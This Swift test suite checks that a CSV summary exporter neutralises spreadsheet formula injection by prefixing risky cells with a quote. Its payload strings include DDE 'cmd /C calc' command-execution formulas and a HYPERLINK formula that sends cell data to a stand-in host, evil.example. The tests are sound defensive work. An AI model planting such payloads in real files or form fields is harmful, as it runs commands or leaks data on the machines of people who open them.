import Foundation
import ShenbaoCore
import ShenbaoData
import ShenbaoTestSupport
import Testing

@testable import ShenbaoSummary

/// Issue 14, item 4: summary wrote cells beginning with =, +, -, @, tab or CR as given, so a
/// submission's unit name `=HYPERLINK(…)` or `+cmd|' /C calc'!A0` became a live formula when the
/// bureau opened the CSV. OWASP's remedy: a single quote in front of such a cell, the cell quoted.
@Suite struct CSVFormulaInjectionTests {
    static let payloads = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ]

    @Test func cellsThatWouldStartAFormulaGetAQuoteAndReadBackAsText() {
        let columns = [SummaryColumn.serialNumber, SummaryColumn(key: FieldPath("a"), label: "申报单位")]
        let legit = ["山东海岱大学", "0531-88661234", "2,5", "a=b", "说\"好\""]
        let rows = (Self.payloads + legit).enumerated().map { ["\($0 + 1)", $1] }
        let table = SummaryTable(title: "t", recommender: "", columns: columns, rows: rows)
        let text = String(decoding: CSVWriter.bytes(table).dropFirst(3), as: UTF8.self)
        let records = CSVRecords.parse(text)
        #expect(records.count == rows.count + 1)
        for (record, payload) in zip(records.dropFirst(), Self.payloads) {
            #expect(record[1] == "'" + payload)
        }
        // Values that cannot start a formula are written as they are.
        #expect(records.suffix(legit.count).map { $0[1] } == legit)
        // No line of the file starts a field with a formula character unquoted.
        for line in text.components(separatedBy: "\r\n") {
            for field in line.split(separator: ",", omittingEmptySubsequences: false) {
                #expect(!(field.first.map { "=+-@".contains($0) } ?? false), "\(line)")
            }
        }
    }

    @Test(.enabled(if: RequiredTools.present(.shenbao)))
    func summaryCSVOfSubmissionsWithFormulaUnitNamesIsNeutralised() throws {
        let dir = TempDirectory("summary-csv-injection")
        let templates = try dir.fixtureTemplates()
        let generated = try SubmissionFactory.jbgs(in: dir, count: 4)
        let victims = Array(generated.prefix(3))
        let payloads = ["=HYPERLINK(\"http://evil.example\",\"点击\")", "+cmd|' /C calc'!A0", "@SUM(1+1)"]
        for (victim, payload) in zip(victims, payloads) {
            let data = SubmissionFactory.setting(try DataFile.load(victim.path), ["揭榜单位名称"], .string(payload))
            try YAMLEmitter.emit(data).write(toFile: victim.path, atomically: true, encoding: .utf8)
        }
        let out = "\(dir.path)/推荐汇总表.csv"
        let result = try ShenbaoCommand.run(["summary", "--form", "jbgs-test", "--templates", templates] + generated.map(\.path) + ["-o", out], timeout: 60)
        #expect(result.status == 0, "\(result.errorText)")
        let cells = CSVRecords.parse(try String(contentsOfFile: out, encoding: .utf8)).flatMap { $0 }
        for payload in payloads {
            #expect(cells.contains("'" + payload), "\(payload) not neutralised")
            #expect(!cells.contains(payload))
        }
        #expect(cells.allSatisfy { !($0.first.map { "=+-@\t\r".contains($0) } ?? false) })
    }
}
